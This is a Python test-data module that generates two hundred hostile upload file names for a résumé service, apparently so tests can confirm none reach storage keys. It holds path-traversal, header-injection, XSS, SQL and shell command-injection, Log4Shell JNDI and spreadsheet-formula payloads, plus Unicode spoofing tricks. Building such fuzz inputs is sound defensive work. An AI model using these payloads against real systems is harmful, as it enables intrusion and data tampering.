"""Two hundred file names that nobody gives a résumé with good intent."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import chain, islice

MARK = "qzxmark"
"""A word in every name that must appear in no storage key."""

_PATHS = (
    "../{}",
    "../../../../etc/{}",
    "..\\..\\windows\\{}",
    "/etc/{}",
    "C:\\{}",
    "\\\\server\\share\\{}",
    "....//....//{}",
    "%2e%2e%2f{}",
    "..%c0%af{}",
    "file:///etc/{}",
    "./{}/../../x",
    "~/{}",
    "//{}",
    "{}/",
    "{}\\",
    ".{}",
    "-{}",
    "--help {}",
    "{}:stream",
    "CON.{}",
)
_HEADERS = (
    "{}\r\nSet-Cookie: a=b",
    "{}\nX-Injected: 1",
    '{}"; filename="other.exe',
    '{}"\r\n\r\n<script>alert(1)</script>',
    "{};filename*=UTF-8''evil.exe",
    "=?utf-8?B?{}?=",
    "{}\x00.pdf.exe",
    "{}\x1b[31m",
    "{}\u2028next",
    "{}\u0085next",
)
_MARKUP = (
    "<img src=x onerror=alert('{}')>",
    "<script>{}</script>",
    "{{{{7*7}}}}{}",
    "${{jndi:ldap://192.0.2.1/{}}}",
    "{}' OR '1'='1",
    "{}; DROP TABLE resumes;--",
    "$({})",
    "`{}`",
    "{}|id",
    "{}&&id",
    '=HYPERLINK("http://192.0.2.1","{}")',
    "@SUM({})",
    "+{}",
    "javascript:{}",
    "%s%n{}",
    "{}%00",
)
_LETTERS = (
    "\u202e{}fdp.exe",
    "\u200b{}\u200b",
    "\ufeff{}",
    "{}\u0301\u0301\u0301",
    "\U0001f4a9{}",
    "ＣＯＮ{}",
    "{}．ｅｘｅ",
    "рф{}",
    "{}\ue000",
    "é{}é",
    "{}" + "a" * 180,
    "{}" + "é" * 120,
    "{}" + "." * 100,
    " {} ",
    "\t{}\t",
    "{} ",
)
_ENDINGS = (".txt", ".pdf", ".docx.exe", ".php", "", ".html", ".txt.", ".svg", ".jsp;.txt", ".TXT ")
WANTED = 200


def hostile_names() -> Iterator[str]:
    """Yield `WANTED` different names, each with `MARK` in it."""
    shapes = tuple(chain(_PATHS, _HEADERS, _MARKUP, _LETTERS))
    named = (f"{shape.format(MARK)}{ending}" for ending in _ENDINGS for shape in shapes)
    return islice(dict.fromkeys(named), WANTED)
